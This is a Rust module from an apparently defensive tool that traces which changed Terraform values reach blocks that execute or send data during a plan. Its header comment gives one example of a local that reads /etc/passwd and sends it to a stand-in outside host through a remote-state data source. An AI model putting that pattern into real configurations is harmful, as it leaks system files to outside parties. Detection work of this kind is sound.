//! Reach: which changed values end up in something that executes or sends while Terraform plans.
//!
//! Owns: the graph of a configuration's blocks, and two questions about it. Must not know: who asks, how a run goes.
//!
//! A plan evaluates more than the block that changed. Example: the proposal changes one local, nothing else.
//!
//! ```text
//! locals { url = "http://elsewhere/${file("/etc/passwd")}" }         changed: a root
//!   └─ referenced by  data "terraform_remote_state" "x"              a sink: the plan sends the value
//! ```
//!
//! [`Configuration::reached`] walks from every changed block to the blocks that reference it, through locals, variables,
//! outputs and local modules, and names the first sink. [`Configuration::sink`] names a sink of the configuration itself.
//! Whatever cannot be judged counts as a sink.

mod functions;
pub(crate) mod lexical;
mod parse;
mod references;
#[cfg(test)]
mod tests;

use hcl_edit::{expr::Expression, structure::Block};
use std::{
    collections::{BTreeMap, BTreeSet, VecDeque},
    fmt,
};

/// A folder below the board's own (empty for that one), and a name such as `local.url` or `data.http.x`.
type Key = (String, String);

/// The blocks of a board's files and of foreign files beside them.
#[derive(Debug, Default)]
pub struct Configuration {
    items: BTreeMap<Key, Item>,
    /// Calls of modules whose files are known: the call, and the folder it calls.
    calls: Vec<(Key, String)>,
    /// Files that cannot be parsed, or that Terraform would read differently.
    unreadable: Vec<String>,
    /// The first block that needs a provider which is not built in.
    fetched: Option<String>,
    /// Constant paths that functions read.
    files: BTreeSet<String>,
}

/// One block, local, module input or provider requirement.
#[derive(Debug, Default)]
struct Item {
    /// As a person finds it, such as `data http x in main.tf`.
    label: String,
    /// Everything it is made of; override files add to it.
    parts: Vec<Part>,
    references: BTreeSet<Reference>,
    /// Executes or sends when it is planned or applied.
    is_sink: bool,
    /// Calls of functions that read a file outside the module folder, or that cannot be judged.
    unsafe_calls: Vec<String>,
}

impl Item {
    /// What executes or sends, in words.
    fn sink(&self) -> Option<String> {
        match (self.is_sink, self.unsafe_calls.first()) {
            (true, _) => Some(self.label.clone()),
            (false, call) => call.map(|call| format!("{call} of {}", self.label)),
        }
    }
}

#[derive(Debug, PartialEq)]
enum Part {
    Block(Box<Block>),
    Expression(Box<Expression>),
    Text(String),
}

/// A name that an expression uses, in the folder that it stands in.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum Reference {
    One(Key),
    /// Every item whose name starts with this.
    Every(Key),
    /// A module's output; all of them when absent.
    Output(Key, Option<String>),
}

/// A block that would execute or send.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reached {
    /// Such as `data http x in main.tf`.
    pub block: String,
    /// The changed block whose value gets there; absent when the block itself is new or changed.
    pub from: Option<String>,
}

impl fmt::Display for Reached {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.from {
            None => f.write_str(&self.block),
            Some(from) => write!(f, "{}, which uses the changed {from}", self.block),
        }
    }
}

impl Configuration {
    /// Reads files by their path within the board's folder: `.tf`, `.tofu`, their JSON, `.tfvars`; others are left out.
    pub fn read<'a>(files: impl IntoIterator<Item = (&'a str, &'a [u8])>) -> Self {
        let mut configuration = Self::default();
        let files: Vec<(&str, &[u8])> = files.into_iter().collect();
        let folders: BTreeSet<String> = files
            .iter()
            .filter(|(path, _)| parse::is_configuration(path))
            .map(|(path, _)| parse::folder_of(path).to_owned())
            .collect();
        for (path, bytes) in files {
            configuration.add_file(path, bytes, &folders);
        }
        configuration
    }

    /// The first sink that a difference from `before` reaches. Without `before`, everything is new.
    pub fn reached(&self, before: Option<&Self>) -> Option<Reached> {
        if let Some(file) = self.unreadable.first() {
            return Some(Reached { block: format!("{file}, which cannot be parsed"), from: None });
        }
        let known = |key: &Key| before.and_then(|before| before.items.get(key));
        let changed =
            self.items.iter().filter(|(key, item)| known(key).is_none_or(|known| known.parts != item.parts));
        let removed = before.into_iter().flat_map(|before| before.items.keys());
        let removed = removed.filter(|key| !self.items.contains_key(*key));
        let roots: BTreeSet<Key> = changed.map(|(key, _)| key).chain(removed).cloned().collect();
        let users = self.users();
        let mut from: BTreeMap<Key, Option<Key>> = roots.into_iter().map(|root| (root, None)).collect();
        let mut waiting: VecDeque<Key> = from.keys().cloned().collect();
        while let Some(key) = waiting.pop_front() {
            for user in users.get(&key).into_iter().flatten() {
                if !from.contains_key(user) {
                    let root = from.get(&key).cloned().flatten().unwrap_or_else(|| key.clone());
                    from.insert(user.clone(), Some(root));
                    waiting.push_back(user.clone());
                }
            }
        }
        from.iter().find_map(|(key, root)| {
            let item = self.items.get(key)?;
            let block = item.sink()?;
            let from = root.as_ref().map(|root| match self.items.get(root) {
                Some(root) => root.label.clone(),
                None => root.1.clone(),
            });
            Some(Reached { block, from })
        })
    }

    /// The first block that executes or sends when the configuration is planned as it is.
    pub fn sink(&self) -> Option<String> {
        if let Some(file) = self.unreadable.first() {
            return Some(format!("{file}, which cannot be parsed"));
        }
        self.items.values().find_map(Item::sink)
    }

    /// Whether it says where the state is kept.
    pub fn has_backend(&self) -> bool {
        self.items.contains_key(&(String::new(), "terraform.backend".to_owned()))
    }

    /// The first block that `init` fetches something for; what cannot be judged counts.
    pub fn fetched(&self) -> Option<String> {
        self.unreadable.first().or(self.fetched.as_ref()).cloned()
    }

    /// Files that functions read by a constant path, by their path within the board's folder.
    pub fn files(&self) -> impl Iterator<Item = &str> {
        self.files.iter().map(String::as_str)
    }

    /// For each item, those that use it.
    fn users(&self) -> BTreeMap<Key, BTreeSet<Key>> {
        let mut users: BTreeMap<Key, BTreeSet<Key>> = BTreeMap::new();
        let mut add = |used: Key, user: &Key| {
            if used != *user {
                users.entry(used).or_default().insert(user.clone());
            }
        };
        for (user, item) in &self.items {
            for reference in &item.references {
                for used in self.resolve(reference) {
                    add(used, user);
                }
            }
        }
        for (call, folder) in &self.calls {
            for user in self.items.keys().filter(|(of, _)| of == folder) {
                // How often a module is called, and with which providers, concerns all that is in it.
                add(call.clone(), user);
                if let Some(variable) = user.1.strip_prefix("var.") {
                    add((call.0.clone(), format!("{}/{variable}", call.1)), user);
                }
            }
        }
        users
    }

    fn resolve(&self, reference: &Reference) -> Vec<Key> {
        let starting = |folder: &String, prefix: &str| -> Vec<Key> {
            let from = (folder.clone(), prefix.to_owned());
            let all = self.items.range(from..).map(|(key, _)| key);
            all.take_while(|key| key.0 == *folder && key.1.starts_with(prefix)).cloned().collect()
        };
        match reference {
            Reference::One(key) => vec![key.clone()],
            Reference::Every((folder, prefix)) => starting(folder, prefix),
            Reference::Output(call, output) => {
                let mut used = vec![call.clone()];
                for (_, folder) in self.calls.iter().filter(|(known, _)| known == call) {
                    match output {
                        Some(name) => used.push((folder.clone(), format!("output.{name}"))),
                        None => used.extend(starting(folder, "output.")),
                    }
                }
                used
            }
        }
    }
}
